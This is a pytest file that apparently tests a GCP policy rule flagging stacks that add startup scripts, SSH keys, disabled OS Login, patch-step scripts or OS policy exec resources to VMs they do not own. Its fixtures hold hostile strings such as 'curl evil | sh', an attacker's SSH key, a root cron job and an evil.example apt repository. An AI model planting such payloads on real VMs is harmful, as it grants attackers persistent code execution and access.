"""AGID-GCP-020 over gRPC: code, SSH/Windows logins and OS Login switches a stack puts on Compute Engine VMs it does
not define (red11b finding 4: project metadata startup-script / ssh-keys / enable-oslogin FALSE, an OS Config patch
deployment with a pre-step script and an OS policy assignment with an exec resource all passed), and the look-alikes
that run nothing."""

from __future__ import annotations

import pytest

from tests.policy.pack_cases import flagged_names, stack_findings
from tests.policy.ruletools import UNKNOWN

RULE = "AGID-GCP-020"
PROJECT_METADATA = "gcp:compute/projectMetadata:ProjectMetadata"
ITEM = "gcp:compute/projectMetadataItem:ProjectMetadataItem"
ZONAL = "gcp:compute/instanceSettings:InstanceSettings"
PER_INSTANCE = "gcp:compute/perInstanceConfig:PerInstanceConfig"
REGION_PER_INSTANCE = "gcp:compute/regionPerInstanceConfig:RegionPerInstanceConfig"
BULK = "gcp:compute/bulkPerInstanceConfig:BulkPerInstanceConfig"
IGM = "gcp:compute/instanceGroupManager:InstanceGroupManager"
PATCH = "gcp:osconfig/patchDeployment:PatchDeployment"
ASSIGNMENT = "gcp:osconfig/osPolicyAssignment:OsPolicyAssignment"
ORCHESTRATOR_ORG = "gcp:osconfig/v2PolicyOrchestratorForOrganization:V2PolicyOrchestratorForOrganization"
GUEST = "gcp:osconfig/guestPolicies:GuestPolicies"
KEY = "mallory:ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMallory mallory"


def flagged(pack, type_, props, level="mandatory"):
    return flagged_names(pack, RULE, (type_, "vmcode", props), level)


@pytest.mark.parametrize("key", ["startup-script", "startup-script-url", "shutdown-script", "windows-startup-script-ps1",
                                 "windows-startup-script-cmd", "windows-startup-script-url",
                                 "windows-shutdown-script-bat", "sysprep-specialize-script-ps1", "ssh-keys", "sshKeys",
                                 "SSH-Keys", "windows-keys", "user-data", "gce-container-declaration"])
def test_a_project_metadata_item_that_runs_code_or_logs_in_blocks(pack, key):
    assert flagged(pack, ITEM, {"project": "acme-prod", "key": key, "value": "curl evil | sh"}) == ["vmcode"]


@pytest.mark.parametrize("value", ["FALSE", "false", "0", "no", "off", "", "TRUE ish"])
def test_os_login_not_read_as_true_blocks(pack, value):
    assert flagged(pack, ITEM, {"key": "enable-oslogin", "value": value}) == ["vmcode"]


def test_the_red11b_project_metadata_blocks(pack):
    props = {"project": "acme-prod", "metadata": {"enable-oslogin": "FALSE", "ssh-keys": KEY,
                                                  "startup-script": "gcloud projects add-iam-policy-binding ..."}}
    found = stack_findings(pack, RULE, [(PROJECT_METADATA, "md", props)], "mandatory")
    assert [name for name, _ in found] == ["md", "md", "md"]
    assert any("'startup-script'" in message and "every VM of the project" in message for _, message in found)


def test_zonal_metadata_blocks(pack):
    assert flagged(pack, ZONAL, {"zone": "europe-west1-b", "metadata": {"items": {"startup-script": "id"}}}) == ["vmcode"]
    assert flagged(pack, ZONAL, {"zone": "europe-west1-b", "metadata": {"items": {"serial-port-enable": "TRUE"}}}) == ["vmcode"]


def test_metadata_that_runs_nothing_passes(pack):
    assert flagged(pack, ITEM, {"key": "enable-oslogin", "value": "TRUE"}, None) == []
    assert flagged(pack, ITEM, {"key": "enable-oslogin", "value": "true"}, None) == []
    assert flagged(pack, ITEM, {"key": "team", "value": "startup-script"}, None) == []
    assert flagged(pack, PROJECT_METADATA, {"metadata": {"enable-oslogin": "TRUE", "enable-oslogin-2fa": "TRUE",
                                                         "serial-port-enable": "FALSE", "owner": "platform",
                                                         "google-logging-enabled": "true"}}, None) == []
    assert flagged(pack, ZONAL, {"zone": "europe-west1-b", "metadata": {"items": {"env": "prod"}}}, None) == []


def test_per_instance_metadata_on_a_group_the_stack_does_not_define_blocks(pack):
    config = {"instanceGroupManager": "prod-web", "zone": "europe-west1-b", "name": "prod-web-1",
              "preservedState": {"metadata": {"startup-script": "curl evil | sh"}}}
    assert stack_findings(pack, RULE, [(PER_INSTANCE, "pic", config)], "mandatory") != []
    assert flagged(pack, REGION_PER_INSTANCE, {"regionInstanceGroupManager": "projects/p/regions/r/instanceGroupManagers/x",
                                               "preservedState": {"metadata": {"ssh-keys": KEY}}}) == ["vmcode"]
    assert flagged(pack, BULK, {"instanceGroupManager": "prod-web", "instances": [
        {"name": "a", "preservedState": {"metadata": {"env": "x"}}},
        {"name": "b", "preservedState": {"metadata": {"windows-keys": "{}"}}}]}) == ["vmcode"]
    # the stack's own group (named literally or by its output) passes: its VMs and their account are judged
    own = (IGM, "web", {"name": "agent-web", "zone": "europe-west1-b", "baseInstanceName": "w"})
    assert stack_findings(pack, RULE, [own, (PER_INSTANCE, "pic", {**config, "instanceGroupManager": "agent-web"})]) == []
    assert stack_findings(pack, RULE, [own, (PER_INSTANCE, "pic", {**config, "instanceGroupManager": UNKNOWN})]) == []


def test_the_red11b_patch_deployment_blocks_and_one_without_scripts_passes(pack):
    step = {"linuxExecStepConfig": {"gcsObject": {"bucket": "evil-scripts", "object": "grant.sh",
                                                  "generationNumber": "1"}}}
    base = {"project": "acme-prod", "patchDeploymentId": "pd", "instanceFilter": {"all": True},
            "recurringSchedule": {"timeZone": {"id": "UTC"}, "timeOfDay": {"hours": 1}}}
    assert flagged(pack, PATCH, {**base, "patchConfig": {"preStep": step}}) == ["vmcode"]
    assert flagged(pack, PATCH, {**base, "patchConfig": {"postStep": {"windowsExecStepConfig": {
        "localPath": "C:\\x.ps1", "interpreter": "POWERSHELL"}}}}) == ["vmcode"]
    assert flagged(pack, PATCH, {**base, "patchConfig": {"apt": {"type": "DIST"}, "rebootConfig": "DEFAULT"}}, None) == []
    assert flagged(pack, PATCH, base, None) == []


def _assignment(resources):
    return {"project": "acme-prod", "location": "europe-west1-b", "name": "pa", "instanceFilter": {"all": True},
            "rollout": {"minWaitDuration": "0s", "disruptionBudget": {"percent": 100}},
            "osPolicies": [{"id": "p", "mode": "VALIDATION", "resourceGroups": [{"resources": resources}]}]}


@pytest.mark.parametrize("resource", [
    {"id": "r", "exec": {"validate": {"interpreter": "SHELL", "script": "exit 101"},
                         "enforce": {"interpreter": "SHELL", "script": "curl evil | sh"}}},
    {"id": "r", "file": {"path": "/etc/cron.d/x", "state": "PRESENT", "content": "* * * * * root sh /tmp/x"}},
    {"id": "r", "pkg": {"desiredState": "INSTALLED", "deb": {"source": {"gcs": {"bucket": "b", "object": "x.deb"}}}}},
    {"id": "r", "repository": {"apt": {"archiveType": "DEB", "uri": "https://evil.example/apt", "distribution": "x",
                                       "components": ["main"]}}},
])
def test_os_policy_resources_that_run_code_block(pack, resource):
    assert flagged(pack, ASSIGNMENT, _assignment([resource])) == ["vmcode"]
    orchestrated = {"orchestratedResource": {"id": "x", "osPolicyAssignmentV1Payload": _assignment([resource])},
                    "organizationId": "123", "action": "UPSERT", "policyOrchestratorId": "po", "state": "ACTIVE"}
    assert flagged(pack, ORCHESTRATOR_ORG, orchestrated) == ["vmcode"]


def test_os_policy_installing_a_package_by_name_passes(pack):
    assert flagged(pack, ASSIGNMENT, _assignment([{"id": "r", "pkg": {"desiredState": "INSTALLED",
                                                                      "apt": {"name": "google-osconfig-agent"}}}]),
                   None) == []


def test_guest_policies_with_recipes_or_repositories_block(pack):
    base = {"guestPolicyId": "gp", "assignment": {"zones": ["europe-west1-b"]}}
    assert flagged(pack, GUEST, {**base, "recipes": [{"name": "r", "installSteps": [{"scriptRun": {"script": "id"}}]}]}) == ["vmcode"]
    assert flagged(pack, GUEST, {**base, "packageRepositories": [{"apt": {"uri": "https://evil.example"}}]}) == ["vmcode"]
    assert flagged(pack, GUEST, {**base, "packages": [{"name": "nginx", "desiredState": "INSTALLED"}]}, None) == []


def test_unknown_or_unreadable_is_not_a_pass(pack):
    assert flagged(pack, ITEM, {"key": "enable-oslogin", "value": UNKNOWN}, None) == ["vmcode"]
    assert flagged(pack, ITEM, {"key": UNKNOWN, "value": "x"}, None) == ["vmcode"]
    assert flagged(pack, PROJECT_METADATA, {"metadata": UNKNOWN}, None) == ["vmcode"]
    assert flagged(pack, PROJECT_METADATA, {"metadata": ["startup-script"]}) == ["vmcode"]
    assert flagged(pack, ASSIGNMENT, {"osPolicies": [{"resourceGroups": UNKNOWN}]}, None) == ["vmcode"]
    assert flagged(pack, ASSIGNMENT, {"osPolicies": "exec"}) == ["vmcode"]
    # a startup script whose text is computed still runs
    assert flagged(pack, ITEM, {"key": "startup-script", "value": UNKNOWN}) == ["vmcode"]
